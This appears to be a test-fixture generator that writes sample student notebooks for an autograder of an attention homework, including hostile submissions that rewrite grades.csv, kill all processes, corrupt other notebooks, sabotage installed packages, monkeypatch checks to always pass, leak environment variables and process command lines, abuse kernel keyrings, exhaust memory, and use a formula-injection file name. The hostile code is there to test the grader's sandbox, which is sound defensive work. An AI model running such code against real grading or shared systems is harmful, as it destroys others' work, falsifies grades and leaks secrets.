"""Write the sample submissions of hw_scaled_dot_product_attention that the grading test grades.

    .venv/bin/python tests/homework/make_submissions.py

Each file is the student notebook with the stubs filled in the way one kind of student would, and
TestGrading in test_grading.py states the score and the reason each one must get. Regenerate after
changing the homework (the files are committed so the test does not depend on this script's logic).
"""

from __future__ import annotations

import copy
from pathlib import Path

import nbformat

from tools import ROOT
from tools.homework.sources import load, role, stable_id
from tools.homework.student import student_notebook

HOMEWORK = "hw_scaled_dot_product_attention"
OUT = Path(__file__).resolve().parent / "submissions" / HOMEWORK
HOSTILE = Path(__file__).resolve().parent / "submissions" / "hostile"

NAIVE_SOFTMAX = '''def my_softmax(x):
    """Softmax along the last axis, straight from the definition."""
    exps = np.exp(x)  # (..., n): overflows for large logits
    return exps / exps.sum(axis=-1, keepdims=True)  # (..., n)
'''

UNSCALED_ATTENTION = '''def my_attention(q, k, v):
    """Attention, but the scores are not divided by sqrt(d_k)."""
    weights = my_softmax(q @ np.swapaxes(k, -1, -2))  # (..., n_q, n_k)
    return weights @ v, weights
'''

RAISING_SOFTMAX = '''def my_softmax(x):
    """Gives up."""
    raise ValueError("I could not make this work")
'''

SELF_CONTAINED_ATTENTION = '''def my_attention(q, k, v):
    """Attention with its own stable softmax, so it does not depend on my_softmax."""
    scores = q @ np.swapaxes(k, -1, -2) / np.sqrt(q.shape[-1])  # (..., n_q, n_k)
    exps = np.exp(scores - scores.max(axis=-1, keepdims=True))  # (..., n_q, n_k)
    weights = exps / exps.sum(axis=-1, keepdims=True)  # (..., n_q, n_k)
    return weights @ v, weights
'''


PACKAGE_SOFTMAX = '''from attnbook import softmax


def my_softmax(x):
    """The package's softmax under another name: passes, and the feedback says so."""
    return softmax(x)
'''


def solutions() -> dict[str, str]:
    """task -> the instructor's solution source."""
    _, source = load(HOMEWORK)
    return {c.metadata["task"]: c.source for c in source.cells if role(c) == "solution"}


def filled(replacements: dict[str, str]):
    """The student notebook with the stub of each task replaced by the given source."""
    notebook = student_notebook(HOMEWORK)
    for cell in notebook.cells:
        if role(cell) == "stub" and cell.metadata["task"] in replacements:
            cell.source = replacements[cell.metadata["task"]]
    return notebook


def code_cell(source: str, **metadata):
    cell = nbformat.v4.new_code_cell(source, metadata=metadata)
    cell.id = stable_id("sample", len(source), source)
    return cell


def insert_after_setup(notebook, cell):
    """Insert a cell right after the last setup cell (the install cell and the imports)."""
    position = max(i for i, c in enumerate(notebook.cells) if role(c) == "setup") + 1
    notebook.cells.insert(position, cell)
    return notebook


# --- hostile submissions (test_hostile.py): each attack is a cell after the setup, unless it replaces a stub

WALK = '''def reachable_files(suffix, limit=20000):
    """Files ending in suffix anywhere this process can read, but for the system and the installed packages."""
    import sys

    found = []
    for top, folders, files in os.walk("/"):
        skip = ("/proc", "/sys", "/usr", "/dev", sys.prefix, sys.base_prefix)
        folders[:] = [f for f in folders if os.path.join(top, f) not in skip]
        found += [os.path.join(top, f) for f in files if f.lower().endswith(suffix)]
        if len(found) > limit:
            break
    return found
'''

REWRITE_GRADES = "import glob\nimport os\nimport time\n\n" + WALK + '''

# a detached process that waits for grades.csv and gives everyone 0 (and this student 10) once it exists
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        stop = time.time() + 120
        while time.time() < stop:
            for csv_path in reachable_files("grades.csv"):
                try:
                    with open(csv_path, "w") as handle:
                        handle.write("student,total\\nrewrite_grades,10\\n")
                    for feedback in glob.glob(os.path.join(os.path.dirname(csv_path), "feedback", "*.md")):
                        with open(feedback, "w") as handle:
                            handle.write("HACKED")
                except OSError:
                    pass
            time.sleep(0.2)
    os._exit(0)
'''

LEAKY_SOFTMAX = "import glob\nimport os\n\n" + '''def my_softmax(x):
    """Puts what it finds into its exception: the checks repeat the message in the feedback."""
    others = []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        if path != f"/proc/{os.getpid()}/cmdline":
            with open(path, "rb") as handle:
                others.append(handle.read().replace(b"\\0", b" ").decode(errors="replace")[-80:])
    canary = {k: v for k, v in os.environ.items() if "CANARY" in k}
    raise ValueError(f"LEAK canary={canary} n_env={len(os.environ)} others={others}")
'''

LEAKY_ATTENTION = "import os\nimport sys\n\n" + WALK + '''

def my_attention(q, k, v):
    """Puts the homework source with its hidden tests, and other notebooks, into its exception."""
    root = os.path.dirname(sys.prefix)  # the repository holds the virtual environment
    try:
        with open(os.path.join(root, "exercises", "hw_scaled_dot_product_attention.md")) as handle:
            source = handle.read()[-60:]
    except OSError as error:
        source = type(error).__name__
    notebooks = [os.path.basename(p) for p in reachable_files(".ipynb")]
    raise ValueError(f"LEAK source={source} notebooks={notebooks}")
'''

KILLS_GRADER = '''import os
import signal

# everything it can reach: every process in /proc, its parent, and finally every process it may signal
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
'''

CORRUPTS_OTHERS = "import os\n\n" + WALK + '''

# overwrite every other notebook it can find, graded or not
for path in reachable_files(".ipynb"):
    try:
        with open(path, "w") as handle:
            handle.write("{}")
    except OSError:
        pass
'''

PATCHES_PACKAGE = '''import glob
import os

import attnbook
import numpy

# make every later student fail: break the installed packages where they are imported from
for folder in (os.path.dirname(attnbook.__file__), os.path.dirname(numpy.__file__)):
    for path in glob.glob(os.path.join(folder, "*.py")):
        try:
            with open(path, "a") as handle:
                handle.write("\\nraise SystemExit('sabotaged')\\n")
        except OSError:
            pass
'''

INPUT_TRANSFORMER = "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])  # every later cell: pass\n"

MONKEYPATCH_CHECKS = '''import numpy as np

import attnbook.homework


class Passed:
    passed = True
    message = "passed"


# every check passes, every comparison is equal, whatever the stubs do
for name in dir(attnbook.homework):
    if name.startswith("check_"):
        setattr(attnbook.homework, name, lambda *args, **kwargs: Passed())
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.all = lambda *args, **kwargs: True
np.isfinite = lambda *args, **kwargs: True
'''

BACKGROUND = '''import subprocess
import sys

# a process that outlives the notebook, in its own session
subprocess.Popen([sys.executable, "-c", "import time\\nwhile True: time.sleep(1)  # attnbook-hostile-background"],
                 start_new_session=True)
'''


KEYCTL = '''import ctypes
import errno
import os

_libc = ctypes.CDLL(None, use_errno=True)


def keyctl_call(number, *args):
    """A raw system call; returns (result, errno name)."""
    result = _libc.syscall(ctypes.c_long(number), *(a if isinstance(a, bytes) else ctypes.c_long(a) for a in args))
    return result, errno.errorcode.get(ctypes.get_errno(), "0") if result < 0 else "ok"


ADD_KEY, KEYCTL_NUMBER = 248, 250  # x86_64
RINGS = {"user": -4, "session": -3, "user-session": -5}
'''

KEYRING_WRITER = KEYCTL + '''
# a solved submission leaves its solution in the kernel's key rings, for a later one of the same uid
payload = PAYLOAD.encode()  # the source of its solved tasks
stored = {}
for ring_name, ring in RINGS.items():
    stored[ring_name] = keyctl_call(ADD_KEY, b"user", b"attnbook-solution", payload, len(payload), ring)
persistent = keyctl_call(KEYCTL_NUMBER, 22, -1, -4)  # KEYCTL_GET_PERSISTENT into the user ring
stored["persistent"] = persistent
if persistent[0] > 0:
    stored["in persistent"] = keyctl_call(ADD_KEY, b"user", b"attnbook-solution", payload, len(payload), persistent[0])
'''

KEYRING_READER = KEYCTL + '''
# an unsolved submission looks for a solution a former one left in the key rings, and runs it
found, tried = None, {}
for ring_name, ring in [*RINGS.items(), ("persistent", keyctl_call(KEYCTL_NUMBER, 22, -1, -4)[0])]:
    key, said = keyctl_call(KEYCTL_NUMBER, 10, ring, b"user", b"attnbook-solution", 0)  # KEYCTL_SEARCH
    tried[ring_name] = said
    if key > 0:
        buffer = ctypes.create_string_buffer(1 << 16)
        size, _ = keyctl_call(KEYCTL_NUMBER, 11, key, ctypes.addressof(buffer), 1 << 16)  # KEYCTL_READ
        found = buffer.raw[:max(size, 0)].decode(errors="replace")
if found:
    exec(found)
else:
    def my_softmax(x):
        raise ValueError(f"KEYRING uid={os.getuid()} found nothing: {sorted(tried.items())}")
'''

NESTED_USERNS = '''import ctypes
import errno
import subprocess


def my_softmax(x):
    """Tries to make a user namespace of its own, where it would hold every capability."""
    libc = ctypes.CDLL(None, use_errno=True)
    refused = libc.unshare(0x10000000)  # CLONE_NEWUSER
    said = errno.errorcode.get(ctypes.get_errno(), "0") if refused else "made one"
    command = subprocess.run(["unshare", "-Ur", "id", "-u"], capture_output=True, text=True)
    raise ValueError(f"USERNS unshare: {said}; unshare -Ur: exit {command.returncode} {command.stderr.strip()[-60:]}")
'''

MEMORY_HOG = '''import os
import select

import numpy as np

# children that each take 512 MiB and hold it, one after another, up to 5 GiB together: more than any cap.
# One at a time, so that the cap is met while a single child writes (quick), and no more once one has ended
release_read, release_write = os.pipe()
report_read, report_write = os.pipe()
children, ended = [], []
for _ in range(10):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        os.close(release_write)  # so that the parent's close releases it
        try:
            block = np.ones(2 ** 26)  # 512 MiB, every page written
            os.write(report_write, b"y")
        except MemoryError:
            os.write(report_write, b"n")
        os.read(release_read, 1)  # hold it until the parent lets go
        os._exit(0)
    children.append((pid, os.pidfd_open(pid)))
    ready, _, _ = select.select([report_read, *(fd for _, fd in children)], [], [], 60)
    if report_read in ready:
        os.read(report_read, 1)
    ended = [pid for pid, fd in children if fd in ready]  # a child the kernel stopped (this one or another)
    if ended or not ready:
        break
os.close(release_write)
for pid, fd in children:
    os.waitpid(pid, 0)
    os.close(fd)
'''


def hostile_notebooks() -> dict[str, object]:
    """Relative path -> notebook: the attacks of issue #12, and the file names that used to confuse grading."""
    good = solutions()
    attacks = {"rewrite_grades": REWRITE_GRADES, "kills_grader": KILLS_GRADER, "corrupts_others": CORRUPTS_OTHERS,
               "patches_package": PATCHES_PACKAGE, "background_process": BACKGROUND}
    notebooks = {f"{name}.ipynb": insert_after_setup(filled(good), code_cell(source))
                 for name, source in attacks.items()}
    for name, source in (("input_transformer", INPUT_TRANSFORMER), ("monkeypatches_checks", MONKEYPATCH_CHECKS)):
        notebooks[f"{name}.ipynb"] = insert_after_setup(filled({}), code_cell(source))  # the stubs untouched
    notebooks["leaks.ipynb"] = filled(dict(good, softmax=LEAKY_SOFTMAX, attention=LEAKY_ATTENTION))
    solved = "\n\n".join(good.values())
    writer = KEYRING_WRITER.replace("PAYLOAD", repr(solved))
    notebooks["keyring_1_writer.ipynb"] = insert_after_setup(filled(good), code_cell(writer))
    reader = filled({})  # the stubs untouched: what it finds in the key rings would replace them
    reader.cells.append(code_cell(KEYRING_READER))
    notebooks["keyring_2_reader.ipynb"] = reader
    notebooks["nested_userns.ipynb"] = filled(dict(good, softmax=NESTED_USERNS))
    notebooks["memory_hog.ipynb"] = insert_after_setup(filled(good), code_cell(MEMORY_HOG))
    notebooks["zwsp.ipynb"] = filled(good)  # and a name that only looks the same: a zero-width space in it
    notebooks["zw\u200bsp.ipynb"] = filled(good)
    notebooks['=HYPERLINK("http:__example.com","10 points").ipynb'] = filled(good)  # a formula as a name
    for path in ("dup.ipynb", "dup/hw.ipynb", "dup-2.ipynb", "deep/a/b/hw.ipynb", "UPPER.IPYNB"):
        notebooks[path] = filled(good)
    return notebooks


def write_hostile() -> None:
    for relative, notebook in hostile_notebooks().items():
        target = HOSTILE / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        nbformat.validate(notebook)
        nbformat.write(notebook, target)
    (HOSTILE / "notes.txt").write_text("not a notebook: the grader lists it as skipped\n", encoding="utf-8")


def main() -> int:
    good = solutions()
    OUT.mkdir(parents=True, exist_ok=True)
    notebooks = {}
    notebooks["correct"] = filled(good)
    notebooks["blank"] = filled({})

    partly = dict(good, softmax=NAIVE_SOFTMAX, attention=UNSCALED_ATTENTION)
    partly["by-hand"] = "answer_a12 = 0.5\nanswer_a21 = 0.2  # rounded too much\n"
    partly["variance"] = "answer_var_raw = 64\nanswer_var_scaled = 8  # divided by sqrt(64) once more than needed\n"
    notebooks["partly_wrong"] = filled(partly)
    fake = code_cell("print('all hidden tests passed')", tags=["hidden-test"], grade_id="attention-values", points=2)
    notebooks["partly_wrong"].cells.append(fake)  # claims 2 points; the grader drops it

    raising = filled(dict(good, softmax=RAISING_SOFTMAX, attention=SELF_CONTAINED_ATTENTION))
    notebooks["raises"] = insert_after_setup(raising, code_cell("ratio = 1 / 0  # a stray cell that raises"))

    looping = filled(good)
    notebooks["infinite_loop"] = insert_after_setup(looping, code_cell("while True:  # never ends\n    pass\n"))
    stubborn = filled(good)
    ignore = ("while True:  # never ends, and swallows the interrupt\n    try:\n        while True:\n"
              "            pass\n    except KeyboardInterrupt:\n        pass\n")
    notebooks["stubborn_loop"] = insert_after_setup(stubborn, code_cell(ignore))

    dying = filled(good)
    notebooks["kills_kernel"] = insert_after_setup(dying, code_cell("import os\n\nos._exit(1)  # the kernel dies"))

    deleted = filled(good)
    deleted.cells = [c for c in deleted.cells if c.metadata.get("task") != "attention"
                     or role(c) == "instructions"]
    notebooks["deleted_cells"] = deleted

    notebooks["uses_package"] = filled(dict(good, softmax=PACKAGE_SOFTMAX))

    renamed = dict(good)
    renamed["softmax"] = good["softmax"].replace("def my_softmax", "def stable_softmax")
    renamed["attention"] = good["attention"].replace("my_softmax(", "stable_softmax(")
    notebooks["renamed_function"] = filled(renamed)

    for name, notebook in notebooks.items():
        nbformat.validate(notebook)
        nbformat.write(notebook, OUT / f"{name}.ipynb")
    text = nbformat.writes(copy.deepcopy(notebooks["correct"]))
    (OUT / "invalid_json.ipynb").write_text(text[: len(text) // 2], encoding="utf-8")  # cut off mid-file
    (OUT / "wrong_nbformat.ipynb").write_text(
        '{"nbformat": 5, "nbformat_minor": 0, "metadata": {}, "cells": []}\n', encoding="utf-8")
    write_hostile()
    for path in sorted([*OUT.iterdir(), *(p for p in HOSTILE.rglob("*") if p.is_file())]):
        print(f"wrote {path.relative_to(ROOT)}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
